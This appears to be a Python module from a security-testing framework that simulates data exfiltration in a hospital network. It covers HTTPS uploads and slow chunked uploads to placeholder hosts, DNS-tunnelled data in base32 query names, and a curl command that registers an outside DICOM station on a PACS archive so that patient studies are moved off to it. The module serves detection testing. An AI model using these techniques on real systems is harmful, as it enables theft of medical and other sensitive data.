"""Data that leaves."""

import base64
import socket

from ..plan import HOSTS, adversary
from ..work import Work, attack
from .means import asks, by, https, turns
from .medical import dicom, studies
from .servers import ARCHIVE_PORT


@attack("https-exfiltration", causes=asks("file-drop.example"))
def https_exfiltration(w: Work, intensity: str) -> None:
    """Files are uploaded over HTTPS: 3 MB in five goes, 1.2 MB in three, or 240 kB in four with long pauses."""
    size, count, period = by(intensity, (600_000, 5, 64), (400_000, 3, 160), (60_000, 4, 400))
    for turn in turns(w, count, period):
        https(w, "file-drop.example", f"/upload/{turn}", w.rng.randbytes(size))


@attack("dns-exfiltration", causes=asks("q.metrics-edge.example"))
def dns_exfiltration(w: Work, intensity: str) -> None:
    """Data leaves in the names that DNS is asked for, through the hospital's resolver: 600 queries at 15 a second, 200 at 3,
    or 40 at one every few seconds."""
    count, pause, size = by(intensity, (600, 1 / 15, 100), (200, 1 / 3, 80), (40, 3, 30))
    for number in range(count):
        text = base64.b32encode(number.to_bytes(2) + w.rng.randbytes(size)).decode().lower().rstrip("=")
        labels = ".".join(text[at : at + 60] for at in range(0, len(text), 60))
        w.attempt(_ask, w, f"{labels}.q.metrics-edge.example")
        if not w.pause(pause * w.rng.uniform(0.5, 1.5)):
            return


def _ask(w: Work, name: str) -> None:
    """One query for an address, as a stub resolver asks it."""
    question = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(3)
        client.connect((HOSTS["infra"].v4, 53))
        client.send(w.rng.getrandbits(16).to_bytes(2) + bytes.fromhex("01000001000000000000") + question)
        client.recv(1500)


@attack("slow-exfiltration", causes=asks("backup-vault.example"))
def slow_exfiltration(w: Work, intensity: str) -> None:
    """Data leaves over HTTPS in small chunks at regular times: 30 of 40 kB, 16 of 24 kB, or 12 of 12 kB ever more slowly."""
    count, size, period = by(intensity, (30, 40_000, 80), (16, 24_000, 160), (12, 12_000, 640))
    for turn in turns(w, count, period, 0.15):
        https(w, "backup-vault.example", f"/chunk/{turn}", w.rng.randbytes(int(size * w.rng.uniform(0.8, 1.2))))


@attack("dicom-exfiltration", causes=((HOSTS["pacs"].v4, adversary("second-opinion.example"), ARCHIVE_PORT, "tcp"),))
def dicom_exfiltration(w: Work, intensity: str) -> None:
    """The archive is told of a new station outside through its open interface, and then to send it studies (C-MOVE): 12 at
    once, 6, or 3 with long pauses."""
    pacs = HOSTS["pacs"].v4
    station = f'{{"AET":"ARCHIVE2","Host":"{adversary("second-opinion.example")}","Port":{ARCHIVE_PORT}}}'
    w.run("curl", "-s", "-f", "-o", "/dev/null", "-X", "PUT", "-d", station, f"http://{pacs}:8042/modalities/ARCHIVE2")
    count, period = by(intensity, (12, 32), (6, 120), (3, 640))
    for study, _ in zip(studies(w)[:count], w.every(period, 0.3)):
        dicom(w, "movescu", "-S", "-aem", "ARCHIVE2", "-k", "QueryRetrieveLevel=STUDY", "-k", f"StudyInstanceUID={study}")
